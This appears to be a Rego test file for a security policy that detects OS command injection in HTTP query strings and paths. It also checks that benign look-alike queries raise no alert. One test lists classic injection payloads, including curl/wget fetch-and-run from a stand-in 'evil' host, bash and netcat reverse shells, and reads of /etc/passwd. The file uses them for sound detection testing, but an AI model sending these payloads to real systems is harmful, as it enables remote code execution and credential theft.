package sentinel.http.command_injection_test

import data.http.command_injection.testdata
import data.sentinel.http.command_injection
import data.sentinel.http.request_test.with_query

# The detection cases run against the shipped patterns in
# policies/data/http.yaml: they are what is under test. Cases that test the
# policy's logic set their own data. The flows are HTTP requests to the
# frontend, from the Internet unless named otherwise, as the engine measured
# them (testdata/flows.jsonl, `make fixtures`); each case states its query
# (request_test.with_query).

test_semicolon_id_alerts if {
	command_injection.violation == {{
		"id": "HTTPCommandInjectionAttempt",
		"severity": "warning",
		"title": "OS command injection attempt in an HTTP request",
		"policy": "sentinel.http.command_injection",
		"summary": "shop/ad sent HTTP GET /ping to shop/frontend with command injection in the query (chained_command)",
		"description": command_injection.violation[_].description,
		"mitre": "T1190",
	}} with input as with_query(testdata.ping_with_query_from_pod, "host=127.0.0.1;id")
}

test_classic_payloads_alert if {
	every query in [
		"host=127.0.0.1%3Bid",
		"host=127.0.0.1%253Bid",
		"host=x|cat+/etc/passwd",
		"host=x%7Ccat%20/etc/passwd",
		"host=$(id)",
		"host=%24(curl+http://evil/x.sh|sh)",
		"host=`whoami`",
		"host=x%26%26wget+http://evil/x",
		"host=x;+curl+http://evil",
		"host=x%0aid",
		"host=x%0Acat%20/etc/passwd",
		"host=x;cat${IFS}/etc/passwd",
		"host=x;bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261",
		"host=x|nc+-e+/bin/sh+10.0.0.1+4444",
		"host=x||ping+-c+10+127.0.0.1",
	] {
		count(command_injection.violation) == 1 with input as with_query(testdata.ping_with_query, query)
	}
	count(command_injection.violation) == 1 with input as with_query(testdata.cgi_with_query, "x=/bin/sh")
	count(command_injection.violation) == 1 with input as with_query(testdata.run_with_query, "c=x|powershell+-enc+AAAA")
}

test_injection_in_the_path_alerts if {
	some v in command_injection.violation with input as testdata.semicolon_in_path
	contains(v.summary, "in the path (chained_command)")
}

test_benign_look_alikes_do_not_alert if {
	every flow_query in [
		["prometheus_query", "query=up%7Bjob%3D~%22api%7Cid%22%7D"],
		["prometheus_query", "query=up%7Bjob%3D~%22a%7Cb%22%7D"],
		["loki_query", "query=%7Bapp%3D%22x%22%7D+%7C%3D+%22error%22+%7C+json+%7C+line_format+%22%7B%7B.msg%7D%7D%22"],
		["loki_query", "query=%7Bapp%3D%22x%22%7D+%7C+logfmt+%7C+level%3D%22error%22"],
		["api_items_with_query", "ids=1;2;3"],
		["search_with_query", "q=tom+%26+jerry;+season+1"],
		["search_with_query", "q=salt+%26+pepper+shakers"],
		["search_with_query", "q=%24100+gift+card"],
		["search_with_query", "q=price:+$(10)"],
		["api_with_query", "fields=name|id"],
		["api_with_query", "fields=name|id&x=1"],
		["search_with_query", "q=c%2B%2B+%26%26+rust"],
		["search_with_query", "id&ls"],
	] {
		count(command_injection.violation) == 0 with input as with_query(testdata[flow_query[0]], flow_query[1])
	}
	every name in ["jsessionid_in_path", "shell_name_in_path"] {
		count(command_injection.violation) == 0 with input as testdata[name]
	}
}

test_keywords_trigger_the_patterns if {
	count(command_injection.violation) == 0 with input as with_query(testdata.cgi_with_query, "x=/bin/sh")
		with data.data.http.cmdi_keywords as []
}

test_no_alert_on_the_response if {
	count(command_injection.violation) == 0 with input as with_query(testdata.ping_response, "host=127.0.0.1;id")
}
